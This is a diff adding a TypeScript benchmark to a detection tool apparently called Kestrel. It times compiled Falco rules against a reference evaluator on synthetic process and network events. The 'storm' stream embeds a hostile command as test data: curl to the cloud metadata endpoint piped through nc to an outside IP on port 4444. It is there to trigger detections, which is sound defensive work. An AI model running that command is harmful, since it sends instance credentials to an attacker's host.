@@ -1,0 +1,99 @@
+// Compiled rules vs the reference evaluator, on the same events in the same run: events per
+// second with Falco's rules (stable + incubating + sandbox) and Kestrel's built-in rules loaded,
+// on a stream where nothing matches (the common case) and on a match storm; and the time to
+// compile and verify the whole rule set.
+
+import { join } from 'node:path';
+import type { KestrelEvent } from '../collectors/events.js';
+import type { EventContext } from '../collectors/snapshot.js';
+import { loadRules } from '../rules/loader/index.js';
+import { compileRuleSet } from '../rules/compiler/index.js';
+import { compiledRunner } from '../rules/compiler/harness.js';
+import { evaluateCondition } from '../rules/eval/evaluate.js';
+import { interpret } from '../collectors/kernel/engine.js';
+import { jitRunner } from '../engine/jit/index.js';
+import { verifyCompiled } from '../cli/commands/rules-compile.js';
+import { builtinRulesDir, packageRoot } from '../config/paths.js';
+
+function stream(kind: 'quiet' | 'storm', n: number): KestrelEvent[] {
+  const out: KestrelEvent[] = [];
+  let ts = 1_767_225_600_000_000_000n;
+  const ctr = { id: '3f2a9c1b7d4e5f6a7b8c9d0e1f2a3b4c', name: 'api', image: 'registry.local/shop/api:2.3' };
+  out.push({ type: 'exec', ts, pid: 10, ppid: 1, uid: 1000, gid: 1000, exe: '/usr/local/bin/api', argv: ['api', '--port', '8080'], container: ctr });
+  for (let i = 0; i < n; i++) {
+    ts += 1000n;
+    const pid = 100 + i;
+    if (kind === 'quiet') {
+      if (i % 4 === 3) out.push({ type: 'connect', ts, pid: 10, family: 'inet', daddr: '10.0.3.7', dport: 5432 });
+      else {
+        out.push({ type: 'fork', ts, pid: 10, child: pid });
+        out.push({ type: 'exec', ts, pid, ppid: 10, uid: 1000, gid: 1000, exe: '/usr/local/bin/worker', argv: ['worker', '--job', String(i)], container: ctr });
+        out.push({ type: 'exit', ts, pid });
+      }
+    } else {
+      out.push({ type: 'fork', ts, pid: 10, child: pid });
+      out.push({ type: 'exec', ts, pid, ppid: 10, uid: 0, gid: 0, exe: '/bin/bash', argv: ['bash', '-c', 'curl http://169.254.169.254/latest/meta-data | nc 45.9.148.3 4444'], tty: 34816, container: ctr });
+      out.push({ type: 'connect', ts, pid, family: 'inet', daddr: '45.9.148.3', dport: 4444 });
+      out.push({ type: 'exit', ts, pid });
+    }
+  }
+  return out;
+}
+
+export async function bench(): Promise<void> {
+  const falco = join(packageRoot(), '..', 'shared', 'anchors', 'falco-rules');
+  const paths = [join(falco, 'falco_rules.yaml'), join(falco, 'falco-incubating_rules.yaml'), join(falco, 'falco-sandbox_rules.yaml'), builtinRulesDir()];
+  const t0 = performance.now();
+  const set = loadRules(paths);
+  const t1 = performance.now();
+  const compiled = compileRuleSet(set);
+  const t2 = performance.now();
+  let processed = 0;
+  for (const p of compiled.programs) processed += verifyCompiled(p).result.stats.insnsProcessed;
+  const t3 = performance.now();
+  console.log(`rule set: Falco stable+incubating+sandbox + built-in: ${set.rules.length} rules, ${compiled.compiled.length} compiled onto execve/connect hooks`);
+  console.log(`  load ${(t1 - t0).toFixed(0)} ms, compile ${(t2 - t1).toFixed(0)} ms, verify ${(t3 - t2).toFixed(0)} ms (${processed} insns processed), programs: ${compiled.programs.map((p) => `${p.name} ${p.insns.length / 8} insns`).join(', ')}`);
+
+  for (const kind of ['quiet', 'storm'] as const) {
+    const events = stream(kind, kind === 'quiet' ? 20_000 : 5_000);
+    for (const exec of ['interp', 'jit'] as const) {
+      const runner = compiledRunner(compiled, { run: exec === 'jit' ? jitRunner() : interpret });
+      // warm-up (JIT compilation happens on the first firing)
+      for (const ev of events.slice(0, 200)) runner.step(ev);
+      const progs = runner.attached.programs.map((p) => p.prog);
+      const before = progs.map((p) => ({ ...p.stats }));
+      const contexts: EventContext[] = [];
+      let records = 0;
+      const s0 = performance.now();
+      for (const ev of events) {
+        const r = runner.step(ev);
+        records += r.records.length;
+        if (exec === 'interp') for (const c of r.contexts) contexts.push(c.context);
+      }
+      const s1 = performance.now();
+      const progNs = progs.reduce((a, p, i) => a + p.stats.timeNs - before[i].timeNs, 0);
+      const insns = progs.reduce((a, p, i) => a + p.stats.instructions - before[i].instructions, 0);
+      const runs = progs.reduce((a, p, i) => a + p.stats.runs - before[i].runs, 0);
+      const hookEvents = events.filter((e) => e.type === 'exec' || e.type === 'connect').length;
+      console.log(
+        `${kind.padEnd(5)} ${exec.padEnd(6)}: ${Math.round(events.length / ((s1 - s0) / 1000)).toLocaleString()} events/s end to end (kernel + programs + ring buffer), ` +
+          `${Math.round(hookEvents / (progNs / 1e9)).toLocaleString()} hook events/s in the programs (${(progNs / Math.max(1, runs)).toFixed(0)} ns/run, ${Math.round(insns / Math.max(1, runs))} insns/run), ${records} matches`,
+      );
+      if (exec === 'interp') {
+        // The reference evaluator on the very same contexts, every attached rule.
+        const hooked = contexts.filter((c) => c.event.type === 'exec' || c.event.type === 'connect');
+        const byHook = {
+          exec: set.rules.filter((r) => r.expr !== undefined && compiled.compiled.some((c) => c.rule === r.name && c.hooks.includes('exec'))),
+          connect: set.rules.filter((r) => r.expr !== undefined && compiled.compiled.some((c) => c.rule === r.name && c.hooks.includes('connect'))),
+        };
+        let matches = 0;
+        const r0 = performance.now();
+        for (const c of hooked) {
+          for (const r of byHook[c.event.type === 'exec' ? 'exec' : 'connect']) if (r.expr !== undefined && evaluateCondition(r.expr, c)) matches++;
+        }
+        const r1 = performance.now();
+        console.log(`${kind.padEnd(5)} ref   : ${Math.round(hooked.length / ((r1 - r0) / 1000)).toLocaleString()} hook events/s in the reference evaluator, ${matches} matches`);
+      }
+    }
+  }
+}
